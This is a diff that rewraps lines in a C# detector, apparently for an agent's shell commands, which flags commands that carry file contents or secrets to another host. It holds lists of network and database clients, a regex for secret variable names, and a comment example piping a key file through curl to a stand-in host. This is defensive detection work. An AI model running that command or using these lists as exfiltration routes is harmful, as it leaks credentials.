@@ -17,29 +17,41 @@ internal static partial class SentAway
 
     /// <summary>Programs that ask another machine, and carry something there where an address is put together of it.</summary>
     static readonly FrozenSet<string> Askers = FrozenSet.Create(StringComparer.Ordinal,
-        "getent", "resolvectl", "systemd-resolve", "git", "redis-cli", "psql", "mysql", "mariadb", "mongosh", "mongo", "openssl", "kubectl", "oc", "helm", "aws", "gsutil", "gcloud", "az", "ssh", "scp", "sftp", "telnet", "docker", "podman", "skopeo", "crane", "ftp", "smbclient", "ldapsearch", "snmpget", "snmpwalk", "ntpdate", "rsync", "influx", "mosquitto_sub", "nmap", "mtr", "tracepath", "svn", "hg", "pg_isready", "grpcurl", "websocat", "rclone", "mc", "s3cmd");
+        "getent", "resolvectl", "systemd-resolve", "git", "redis-cli", "psql", "mysql", "mariadb", "mongosh", "mongo", "openssl", "kubectl", "oc", "helm", "aws",
+            "gsutil", "gcloud", "az", "ssh", "scp", "sftp", "telnet", "docker", "podman", "skopeo", "crane", "ftp", "smbclient", "ldapsearch", "snmpget", "snmpwalk",
+            "ntpdate", "rsync", "influx", "mosquitto_sub", "nmap", "mtr", "tracepath", "svn", "hg", "pg_isready", "grpcurl", "websocat", "rclone", "mc", "s3cmd");
 
     /// <summary>Clients of databases and services, which print what those hold.</summary>
-    static readonly FrozenSet<string> Clients = FrozenSet.Create(StringComparer.Ordinal, "psql", "mysql", "mariadb", "mongosh", "mongo", "redis-cli", "clickhouse-client", "cqlsh", "sqlcmd", "sqlplus", "bq", "ldapsearch", "vault", "etcdctl", "git", "pg_dump", "pg_dumpall", "mysqldump", "mongodump", "influx", "logcli", "journalctl");
+    static readonly FrozenSet<string> Clients =
+        FrozenSet.Create(StringComparer.Ordinal, "psql", "mysql", "mariadb", "mongosh", "mongo", "redis-cli", "clickhouse-client", "cqlsh", "sqlcmd", "sqlplus", "bq",
+            "ldapsearch", "vault", "etcdctl", "git", "pg_dump", "pg_dumpall", "mysqldump", "mongodump", "influx", "logcli", "journalctl");
 
     /// <summary>Programs that print what files or the environment hold.</summary>
     static readonly FrozenSet<string> Printers = FrozenSet.Create(StringComparer.Ordinal,
-        "cat", "tac", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "strings", "rev", "sort", "cut", "grep", "sed", "awk", "dd", "tar", "zip", "gzip", "bzip2", "xz", "zcat",
-        "gpg", "openssl", "printenv", "set", "history", "sqlite3", "getent", "jq", "yq", "less", "more", "bat", "hd", "sdiff", "bzgrep", "ag", "lzcat", "lz4cat", "column", "uniq", "paste", "join", "comm", "diff", "fold", "fmt", "pr", "nl", "expand", "iconv", "zgrep", "egrep", "fgrep", "rg", "bzcat", "xzcat", "zstdcat", "look", "xmllint", "unzip");
+        "cat", "tac", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "strings", "rev", "sort", "cut", "grep", "sed", "awk", "dd", "tar", "zip",
+            "gzip", "bzip2", "xz", "zcat",
+        "gpg", "openssl", "printenv", "set", "history", "sqlite3", "getent", "jq", "yq", "less", "more", "bat", "hd", "sdiff", "bzgrep", "ag", "lzcat", "lz4cat",
+            "column", "uniq", "paste", "join", "comm", "diff", "fold", "fmt", "pr", "nl", "expand", "iconv", "zgrep", "egrep", "fgrep", "rg", "bzcat", "xzcat", "zstdcat",
+            "look", "xmllint", "unzip");
 
-    static readonly FrozenSet<string> Headers = FrozenSet.Create(StringComparer.Ordinal, "-H", "--header", "-u", "--user", "-b", "--cookie", "-A", "--user-agent", "--cacert", "--cert", "--key");
+    static readonly FrozenSet<string> Headers =
+        FrozenSet.Create(StringComparer.Ordinal, "-H", "--header", "-u", "--user", "-b", "--cookie", "-A", "--user-agent", "--cacert", "--cert", "--key");
 
     /// <returns>Why the command is no read; null where no word of it carries a file's content.</returns>
     public static string? Problem(SimpleCommand command, Scope scope)
     {
         for (var at = GoesToHost(command) ? 1 : command.Words.Count; at < command.Words.Count; at++)
         {
-            if (Carried(command.Words[at].Parts, scope) is { } told && !(command.Words[0].Constant is "ssh" && (IsHost(command.Words, at) || Credentials().IsMatch(Text(command.Words[at].Parts))))) return $"what '{told}' holds is sent to another machine";
+            if (Carried(command.Words[at].Parts, scope) is { } told
+                && !(command.Words[0].Constant is "ssh" && (IsHost(command.Words, at) || Credentials().IsMatch(Text(command.Words[at].Parts)))))
+                return $"what '{told}' holds is sent to another machine";
         }
 
         if (Carriers.HandedOn(command, scope) is { } handed) return $"what '{handed}' holds may be sent to another machine";
         // dig(1), "-f": each line of the file is asked of the server that is named.
-        if (command.Words is [{ Constant: "dig" or "kdig" or "mdig" or "drill" }, ..] && command.Words.Any(word => word.Constant is ['-', 'f', ..]) && command.Words.Any(word => word.Constant is ['@', ..])) return "the lines of a file are asked of another machine";
+        if (command.Words is [{ Constant: "dig" or "kdig" or "mdig" or "drill" }, ..] && command.Words.Any(word => word.Constant is ['-', 'f', ..])
+            && command.Words.Any(word => word.Constant is ['@', ..]))
+            return "the lines of a file are asked of another machine";
         var (sends, asks) = (false, false);
         for (var at = 0; at < command.Words.Count; at++)
         {
@@ -49,7 +61,8 @@ internal static partial class SentAway
                 sends = command.Words[at].Constant is { } name && IsSender(name);
                 asks |= command.Words[at].Constant is { } asker && IsAsker(asker);
                 // ssh host "curl https://h/?x=$(cat key)": what another shell reads is put together here.
-                if (at > 0 && command.Words[0].Constant is not ("echo" or "printf") && CarriedInText(command.Words[at].Parts, scope, new StringBuilder()) is { } put) return $"what '{put}' holds is sent to another machine";
+                if (at > 0 && command.Words[0].Constant is not ("echo" or "printf") && CarriedInText(command.Words[at].Parts, scope, new StringBuilder()) is { } put)
+                    return $"what '{put}' holds is sent to another machine";
                 continue;
             }
             if (command.Words[at - 1].Constant is { } before && Headers.Contains(before) && Proves(before, command.Words[at])) continue;
@@ -60,7 +73,9 @@ internal static partial class SentAway
 
     /// <summary>A client of a server that is named with a dot: whatever its words carry goes there. To ssh every name is another machine.</summary>
     static bool GoesToHost(SimpleCommand command) =>
-        command.Words[0].Constant is "ssh" || command.Words is [{ Constant: "git" }, { Constant: "ls-remote" or "fetch" or "clone" or "push" }, ..] || command.Words[0].Constant is "redis-cli" or "psql" or "mysql" or "mariadb" or "mongosh" or "ldapsearch" or "snmpget" or "snmpwalk" && command.Words.Skip(1).Any(word => ForeignHost().IsMatch(Text(word.Parts)));
+        command.Words[0].Constant is "ssh" || command.Words is [{ Constant: "git" }, { Constant: "ls-remote" or "fetch" or "clone" or "push" }, ..]
+            || command.Words[0].Constant is "redis-cli" or "psql" or "mysql" or "mariadb" or "mongosh" or "ldapsearch" or "snmpget" or "snmpwalk"
+                && command.Words.Skip(1).Any(word => ForeignHost().IsMatch(Text(word.Parts)));
 
     /// <summary>The name of the machine itself: what stands alone, before anything but options and their values.</summary>
     static bool IsHost(EquatableArray<Word> words, int at)
@@ -91,7 +106,9 @@ internal static partial class SentAway
     public static string Text(EquatableArray<WordPart> parts)
     {
         var text = new StringBuilder();
-        foreach (var part in parts) text.Append(part switch { Literal literal => literal.Text, SingleQuoted single => single.Text, DoubleQuoted quoted => Text(quoted.Parts), _ => Argument.Hole.ToString() });
+        foreach (var part in parts)
+            text.Append(part switch { Literal literal => literal.Text, SingleQuoted single => single.Text, DoubleQuoted quoted => Text(quoted.Parts),
+                _ => Argument.Hole.ToString() });
         return text.ToString();
     }
 
@@ -133,7 +150,8 @@ internal static partial class SentAway
         return null;
     }
 
-    [GeneratedRegex(@"(^|_)(TOKEN|SECRET|PASS|PASSWORD|PASSWD|PWD_?DB|CREDENTIALS?|API_?KEY|ACCESS_?KEY(_ID)?|PRIVATE_?KEY|APIKEY)(_|$)", RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"(^|_)(TOKEN|SECRET|PASS|PASSWORD|PASSWD|PWD_?DB|CREDENTIALS?|API_?KEY|ACCESS_?KEY(_ID)?|PRIVATE_?KEY|APIKEY)(_|$)",
+        RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
     private static partial Regex SecretName();
 
     /// <summary>Whether a value that is assigned holds what a file holds, so that the variable carries it on.</summary>
@@ -235,13 +253,26 @@ internal static partial class SentAway
     /// <summary>What prints what a database, a bucket or a cluster's settings hold.</summary>
     static string? Client(SimpleCommand command)
     {
-        if (command.Words.Select(word => word.Constant).FirstOrDefault(name => name is not null && Clients.Contains(name[(name.LastIndexOf('/') + 1)..])) is { } client) return client;
+        if (command.Words.Select(word => word.Constant).FirstOrDefault(name => name is not null && Clients.Contains(name[(name.LastIndexOf('/') + 1)..])) is { } client)
+            return client;
         // Objects that hold settings and secrets, tables, and objects of a bucket.
-        if (command.Words is [{ Constant: "kubectl" or "oc" }, ..] && command.Words.Any(word => word.Constant is "cm" or "configmap" or "configmaps" or "secret" or "secrets" or "yaml" or "-oyaml" or "-ojson" or "exec" or "logs" || word.Constant is { } named && (named.StartsWith("cm/", StringComparison.Ordinal) || named.StartsWith("secret", StringComparison.Ordinal) || named.StartsWith("configmap", StringComparison.Ordinal)))
+        if (command.Words is [{ Constant: "kubectl" or "oc" }, ..]
+            && command.Words.Any(word =>
+                word.Constant is "cm" or "configmap" or "configmaps" or "secret" or "secrets" or "yaml" or "-oyaml" or "-ojson" or "exec" or "logs"
+                    || word.Constant is { } named
+                        && (named.StartsWith("cm/", StringComparison.Ordinal) || named.StartsWith("secret", StringComparison.Ordinal)
+                            || named.StartsWith("configmap", StringComparison.Ordinal)))
             || Carriers.ShowSettings(command)
-            || command.Words is [{ Constant: "docker" or "podman" or "nerdctl" or "crictl" }, { Constant: "logs" or "exec" }, ..] || command.Words is [{ Constant: "docker" or "podman" or "nerdctl" or "crictl" }, { Constant: "inspect" or "inspectp" or "inspecti" }, ..] && !command.Words.Any(word => word.Constant?.Contains("IPAddress", StringComparison.Ordinal) == true || word.Constant?.Contains("Port", StringComparison.Ordinal) == true)
-            || command.Words is [{ Constant: "python3" or "python" or "perl" or "ruby" or "node" }, ..] && command.Words.Any(word => word.Constant?.Contains("open(", StringComparison.Ordinal) == true || word.Constant?.Contains("read", StringComparison.Ordinal) == true || word.Constant?.Contains("environ", StringComparison.Ordinal) == true)
-            || command.Words is [{ Constant: "aws" }, ..] && command.Words.Any(word => word.Constant is "dynamodb" or "secretsmanager" or "ssm" or "cp" or "get-object")) return command.Words[0].Constant;
+            || command.Words is [{ Constant: "docker" or "podman" or "nerdctl" or "crictl" }, { Constant: "logs" or "exec" }, ..]
+                || command.Words is [{ Constant: "docker" or "podman" or "nerdctl" or "crictl" }, { Constant: "inspect" or "inspectp" or "inspecti" }, ..]
+                    && !command.Words.Any(word =>
+                        word.Constant?.Contains("IPAddress", StringComparison.Ordinal) == true || word.Constant?.Contains("Port", StringComparison.Ordinal) == true)
+            || command.Words is [{ Constant: "python3" or "python" or "perl" or "ruby" or "node" }, ..]
+                && command.Words.Any(word =>
+                    word.Constant?.Contains("open(", StringComparison.Ordinal) == true || word.Constant?.Contains("read", StringComparison.Ordinal) == true
+                        || word.Constant?.Contains("environ", StringComparison.Ordinal) == true)
+            || command.Words is [{ Constant: "aws" }, ..]
+                && command.Words.Any(word => word.Constant is "dynamodb" or "secretsmanager" or "ssm" or "cp" or "get-object")) return command.Words[0].Constant;
         return null;
     }
 
@@ -258,7 +289,11 @@ internal static partial class SentAway
         if (name is null || !IsPrinter(name)) return null;
         // A pattern or a program comes first; a number or a single character is the value of an option.
         var patterns = Patterned.Contains(name[(name.LastIndexOf('/') + 1)..]) ? 1 : 0;
-        return command.Words.Skip(1).Count(word => word.Constant is not (['-', ..] or { Length: 1 }) && word.Constant?.All(character => char.IsAsciiDigit(character) || character is ',' or '-') != true) > patterns ? name : null;
+        return command.Words.Skip(1)
+            .Count(word =>
+                word.Constant is not (['-', ..] or { Length: 1 })
+                    && word.Constant?.All(character => char.IsAsciiDigit(character) || character is ',' or '-') != true) > patterns
+            ? name : null;
     }
 
     static readonly FrozenSet<string> Patterned = FrozenSet.Create(StringComparer.Ordinal, "grep", "egrep", "fgrep", "zgrep", "rg", "sed", "awk", "jq", "yq");
